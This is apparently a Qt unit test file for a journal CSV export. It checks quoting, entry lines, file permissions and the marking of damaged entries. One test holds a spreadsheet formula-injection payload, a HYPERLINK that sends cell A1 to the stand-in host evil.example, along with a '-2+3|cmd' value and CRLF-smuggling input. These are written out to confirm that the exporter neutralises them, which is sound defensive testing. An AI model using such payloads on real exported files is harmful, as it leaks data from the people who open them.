// SPDX-License-Identifier: Apache-2.0
#include "journal/JournalCsv.h"
#include "models/journal/JournalSamples.h"

#include <QTemporaryDir>
#include <QTest>

namespace {

/// RFC 4180, by the letter.
std::vector<std::vector<std::string>> cellsIn(const QByteArray& csv) {
    std::vector<std::vector<std::string>> lines{{""}};
    bool isQuoted = false;
    for (qsizetype i = 0; i < csv.size(); ++i) {
        const char c = csv[i];
        std::string& cell = lines.back().back();
        if (isQuoted && c == '"' && i + 1 < csv.size() && csv[i + 1] == '"')
            cell += csv[++i];
        else if (c == '"')
            isQuoted = !isQuoted;
        else if (isQuoted)
            cell += c;
        else if (c == ',')
            lines.back().emplace_back();
        else if (c == '\n')
            lines.emplace_back(1);
        else if (c != '\r')
            cell += c;
    }
    lines.pop_back(); // The end of the last line.
    return lines;
}

} // namespace

class tst_JournalCsv : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void init();
    void aCellIsQuotedWhereItMustBe_data();
    void aCellIsQuotedWhereItMustBe();
    void everyEntryIsALine();
    void hostileTextStaysInItsCellAndIsNoFormula();
    void aDamagedJournalIsExportedAndMarked();
    void whatCannotBeWrittenIsTold();
    void withoutAJournalNoFileIsMade();

private:
    QByteArray exported();

    std::unique_ptr<QTemporaryDir> m_directory;
    QString m_path;
    QString m_csv;
};

void tst_JournalCsv::init() {
    m_directory = std::make_unique<QTemporaryDir>();
    m_path = m_directory->filePath(QStringLiteral("journal.sqlite"));
    m_csv = m_directory->filePath(QStringLiteral("journal.csv"));
}

void tst_JournalCsv::aCellIsQuotedWhereItMustBe_data() {
    QTest::addColumn<QByteArray>("text");
    QTest::addColumn<QByteArray>("cell");
    const auto row = [](const char* text, const char* cell) {
        QTest::newRow(text) << QByteArray(text) << QByteArray(cell);
    };
    row("", "");
    row("plain", "plain");
    row("a,b", "\"a,b\"");
    row("say \"no\"", "\"say \"\"no\"\"\"");
    row("two\nlines", "\"two\nlines\"");
    row("=1+1", "\"'=1+1\"");
    row("+49", "\"'+49\"");
    row("-1", "\"'-1\"");
    row("@SUM(A1)", "\"'@SUM(A1)\"");
    row("\t=1", "\"'\t'=1\"");
    row("\r=1", "\"'\r'=1\"");
    row("a=b", "a=b");
    row("x;=1+1", "\"x;'=1+1\"");
    row("x,=1+1", "\"x,'=1+1\"");
    row("x\t@SUM(A1)", "\"x\t'@SUM(A1)\"");
    row("x\n-1", "\"x\n'-1\"");
    row("x|+1", "\"x|'+1\"");
    row("x; =1+1", "\"x; '=1+1\"");
    row("x;\"=1+1\"", "\"x;\"\"'=1+1\"\"\"");
    row(" =1+1", "\" '=1+1\"");
    row("a;b", "\"a;b\"");
    row("2026-12-01T10:00:00Z", "2026-12-01T10:00:00Z");
    row("Zoë", "Zoë");
}

void tst_JournalCsv::aCellIsQuotedWhereItMustBe() {
    QFETCH(QByteArray, text);
    QFETCH(QByteArray, cell);
    QCOMPARE(csvCell(text.toStdString()), cell.toStdString());
}

QByteArray tst_JournalCsv::exported() {
    return exportJournal(m_path, m_csv).isWritten ? bytesOf(m_csv) : QByteArray();
}

void tst_JournalCsv::everyEntryIsALine() {
    QVERIFY(writeSamples(m_path, 3));
    const QByteArray csv = exported();
    QVERIFY(csv.startsWith("\xEF\xBB\xBF"
                           "sequence,time,"));
    QVERIFY(csv.endsWith("\r\n"));
    const auto lines = cellsIn(csv.sliced(3));
    QCOMPARE(lines.size(), std::size_t{4});
    for (const auto& line : lines)
        QCOMPARE(line.size(), journalColumns.size() + 6);
    QCOMPARE(lines[2][0], std::string("2"));
    QCOMPARE(lines[2][1], std::string("2026-09-21T14:13:22Z"));
    const std::vector<WrittenEntry> entries = entriesIn(m_path);
    for (std::size_t i = 0; i < journalColumns.size(); ++i) {
        QCOMPARE(lines[0][i + 4], std::string(journalColumns[i].name));
        QCOMPARE(lines[2][i + 4], entries[1].*journalColumns[i].text);
    }
    QVERIFY(!(QFile::permissions(m_csv) & (QFile::ReadGroup | QFile::ReadOther)));
}

void tst_JournalCsv::hostileTextStaysInItsCellAndIsNoFormula() {
    const QString hostile =
        QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"ok\"),\"x\"\r\n@SUM(1)");
    JournalFile file;
    QCOMPARE(file.open(m_path, sampleStamp()), JournalTrouble::None);
    JournalEntry entry = sampleEntry(1);
    entry.typedReason = hostile;
    JournalStamp stamp = sampleStamp();
    stamp.operatorName = QStringLiteral("-2+3|cmd");
    QCOMPARE(file.record(stamp, {&entry, 1}), JournalTrouble::None);
    // What the desk would not write, but somebody else can.
    QVERIFY(runSql(m_path, "UPDATE entry SET session = '+1\r\n\",x'"));
    const auto lines = cellsIn(exported().sliced(3));
    QCOMPARE(lines.size(), std::size_t{2});
    QCOMPARE(lines[1].size(), lines[0].size());
    for (const std::string& cell : lines[1])
        QVERIFY2(cell.empty() || std::string("=+-@\t\r\n").find(cell.front()) == std::string::npos,
                 cell.c_str());
}

void tst_JournalCsv::aDamagedJournalIsExportedAndMarked() {
    QVERIFY(writeSamples(m_path, 5));
    QVERIFY(runSql(m_path, "UPDATE entry SET deed = 'copied' WHERE sequence = 3"));
    const JournalExport made = exportJournal(m_path, m_csv);
    QVERIFY(made.isWritten);
    QVERIFY(!made.report.isSound());
    const auto lines = cellsIn(bytesOf(m_csv).sliced(3));
    QCOMPARE(lines.size(), std::size_t{6});
    QCOMPARE(lines[3].back(), std::string("entry_changed"));
    QCOMPARE(lines[4].back(), std::string());
}

void tst_JournalCsv::whatCannotBeWrittenIsTold() {
    QVERIFY(writeSamples(m_path, 1));
    const JournalExport made =
        exportJournal(m_path, m_directory->filePath(QStringLiteral("no/such/place.csv")));
    QVERIFY(!made.isWritten);
    QVERIFY(made.report.isSound());
}

void tst_JournalCsv::withoutAJournalNoFileIsMade() {
    QVERIFY(!exportJournal(m_path, m_csv).isWritten);
    QVERIFY(!QFile::exists(m_csv));
}

QTEST_GUILESS_MAIN(tst_JournalCsv)
#include "tst_journal_csv.moc"
